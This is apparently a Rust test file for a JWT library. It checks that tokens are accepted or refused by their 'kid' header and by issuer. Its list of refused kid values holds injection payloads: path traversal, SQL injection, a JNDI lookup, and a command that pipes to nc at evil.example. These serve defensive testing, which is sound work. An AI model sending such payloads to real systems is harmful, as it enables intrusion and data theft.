//! `kid`: a name in a map, and nothing else. And issuers whose keys never meet.

use serde_json::{Value, json};

use super::{Family, HS256, good, good_text, hs256, sign, sign_with};
use crate::{
    algorithm::Algorithm,
    issue::SigningKey,
    test_support::{claims, other_private_pem, signing_key},
};

const RULE: &str = "RFC 8725 §3.10";

pub(super) fn family() -> Family {
    let mut family = Family::new("kids");
    accepted(&mut family);
    ill_typed(&mut family);
    unknown(&mut family);
    several_keys(&mut family);
    two_issuers(&mut family);
    family
}

fn rs256(kid: &Value) -> String {
    sign(
        Algorithm::RS256,
        &json!({ "alg": "RS256", "kid": kid }).to_string(),
        good_text(),
    )
}

fn other_key(algorithm: Algorithm) -> SigningKey {
    let pem = other_private_pem(algorithm).expect("there is one");
    SigningKey::from_pem(algorithm, pem.as_bytes()).expect("it fits")
}

fn accepted(family: &mut Family) {
    family.accept("the key's name", RULE, "rs256", rs256(&json!("key-1")));
    let token = sign(Algorithm::RS256, r#"{"alg":"RS256"}"#, good_text());
    family.accept("no name", RULE, "rs256", token);
    let token = sign(
        Algorithm::RS256,
        r#"{"alg":"RS256","kid":"\u006bey-1"}"#,
        good_text(),
    );
    family.accept("the key's name with escapes", RULE, "rs256", token);
    family.accept(
        "the second of two keys",
        RULE,
        "rs256-two-keys",
        rs256(&json!("key-1")),
    );
    let token = sign(Algorithm::RS256, r#"{"alg":"RS256"}"#, good_text());
    family.accept(
        "no name, the second of two keys",
        RULE,
        "rs256-two-keys",
        token,
    );
    for algorithm in [Algorithm::RS256, Algorithm::ES256] {
        let name = format!("{algorithm}, where another type of key has the same name");
        family.accept(&name, "RFC 7517 §4.5", "rs256-es256", good(algorithm));
    }
    family.accept(
        "the older of two secrets",
        RULE,
        "hs256-rotated",
        good(Algorithm::HS256),
    );
    let token = hs256(r#"{"alg":"HS256","kid":"old"}"#, good_text());
    family.accept("a secret by its name", RULE, "hs256-named", token);
    family.accept(
        "a named secret without its name",
        RULE,
        "hs256-named",
        good(Algorithm::HS256),
    );
}

fn ill_typed(family: &mut Family) {
    for (name, kid) in [
        ("number", json!(1)),
        ("null", json!(null)),
        ("true", json!(true)),
        ("array", json!(["key-1"])),
        ("object", json!({ "kid": "key-1" })),
        ("257 bytes", json!("k".repeat(257))),
        (
            "256 bytes and an accent",
            json!(format!("{}é", "k".repeat(255))),
        ),
    ] {
        family.refuse(
            name,
            "RFC 7515 §4.1.4",
            "rs256",
            "malformed_header",
            rs256(&kid),
        );
    }
}

fn unknown(family: &mut Family) {
    for (name, kid) in [
        ("unknown", "key-3".to_owned()),
        ("empty", String::new()),
        ("256 bytes", "k".repeat(256)),
        ("other case", "KEY-1".to_owned()),
        ("prefix", "key-".to_owned()),
        ("longer", "key-11".to_owned()),
        ("space after", "key-1 ".to_owned()),
        ("newline after", "key-1\n".to_owned()),
        ("NUL after", "key-1\0".to_owned()),
        ("path", "../../../../dev/null".to_owned()),
        (
            "absolute path",
            "/proc/sys/kernel/randomize_va_space".to_owned(),
        ),
        ("file URL", "file:///dev/null".to_owned()),
        ("URL", "https://evil.example/key".to_owned()),
        ("SQL", "x' UNION SELECT 'secret".to_owned()),
        ("SQL that is true", "key-1' OR '1'='1".to_owned()),
        ("command", "key-1;id|nc evil.example 1".to_owned()),
        ("JNDI", "${jndi:ldap://evil.example/a}".to_owned()),
        ("template", "{{7*7}}".to_owned()),
        ("log forgery", "key-1\r\nINFO token accepted".to_owned()),
        ("terminal escape", "\u{1b}[2Jkey-1".to_owned()),
    ] {
        let name = format!("kid: {name}");
        family.refuse(&name, RULE, "rs256", "unknown_kid", rs256(&json!(kid)));
    }
    let token = hs256(r#"{"alg":"HS256","kid":"key-1"}"#, good_text());
    family.refuse(
        "a name where keys have none",
        RULE,
        "hs256",
        "unknown_kid",
        token,
    );
    let token = hs256(r#"{"alg":"HS256","kid":"newest"}"#, good_text());
    family.refuse(
        "a name that no secret has",
        RULE,
        "hs256-named",
        "unknown_kid",
        token,
    );
}

fn several_keys(family: &mut Family) {
    let name = "the name of another key";
    family.refuse(
        name,
        RULE,
        "rs256-two-keys",
        "bad_signature",
        rs256(&json!("key-2")),
    );
    let token = hs256(r#"{"alg":"HS256","kid":"new"}"#, good_text());
    family.refuse(
        "the name of another secret",
        RULE,
        "hs256-named",
        "bad_signature",
        token,
    );
    let other = SigningKey::hmac(
        Algorithm::HS256,
        b"another secret that nobody trusts at all!",
    );
    let token = sign_with(&other.expect("HMAC"), HS256, good_text());
    family.refuse(
        "none of two secrets",
        RULE,
        "hs256-rotated",
        "bad_signature",
        token,
    );
    let key = signing_key(Algorithm::ES256);
    let token = sign_with(&key, r#"{"alg":"ES256"}"#, good_text());
    let name = "no name, and more keys than are tried";
    family.refuse(name, RULE, "es256-many-keys", "bad_signature", token);
    let token = sign_with(&key, r#"{"alg":"ES256","kid":"last"}"#, good_text());
    family.accept(
        "the name of the last of many keys",
        RULE,
        "es256-many-keys",
        token,
    );
}

fn two_issuers(family: &mut Family) {
    const KEYS: &str = "RFC 8725 §3.8";
    const OTHER: &str = "https://other.example";
    let header = r#"{"alg":"RS256","kid":"key-1"}"#;
    let own = signing_key(Algorithm::RS256);
    let other = other_key(Algorithm::RS256);
    let text = |issuer: Value| {
        let mut claims = claims();
        claims.insert("iss".to_owned(), issuer);
        Value::Object(claims).to_string()
    };
    let first = sign_with(&own, header, good_text());
    family.accept("the first issuer, its key", KEYS, "two-issuers", first);
    let second = sign_with(&other, header, text(json!(OTHER)));
    family.accept(
        "the second issuer, its key of the same name",
        KEYS,
        "two-issuers",
        second,
    );
    for (name, code, token) in [
        (
            "the first issuer, the second's key",
            "bad_signature",
            sign_with(&other, header, good_text()),
        ),
        (
            "the second issuer, the first's key",
            "bad_signature",
            sign_with(&own, header, text(json!(OTHER))),
        ),
        (
            "the first issuer, the second's key, no name",
            "bad_signature",
            sign_with(&other, r#"{"alg":"RS256"}"#, good_text()),
        ),
        (
            "a third issuer",
            "untrusted_issuer",
            sign_with(&own, header, text(json!("https://third.example"))),
        ),
        (
            "no issuer",
            "untrusted_issuer",
            sign_with(&own, header, r#"{"sub":"alice"}"#),
        ),
        (
            "both issuers in a list",
            "untrusted_issuer",
            sign_with(&own, header, text(json!(["https://issuer.example", OTHER]))),
        ),
        (
            "issuer null",
            "untrusted_issuer",
            sign_with(&own, header, text(json!(null))),
        ),
        (
            "no JSON",
            "untrusted_issuer",
            sign_with(&own, header, "claims"),
        ),
        (
            "two issuers in one token, the second's key",
            "malformed_claims",
            sign_with(
                &other,
                header,
                text(json!(OTHER)).replacen('{', r#"{"iss":"https://issuer.example","#, 1),
            ),
        ),
    ] {
        family.refuse(name, KEYS, "two-issuers", code, token);
    }
}
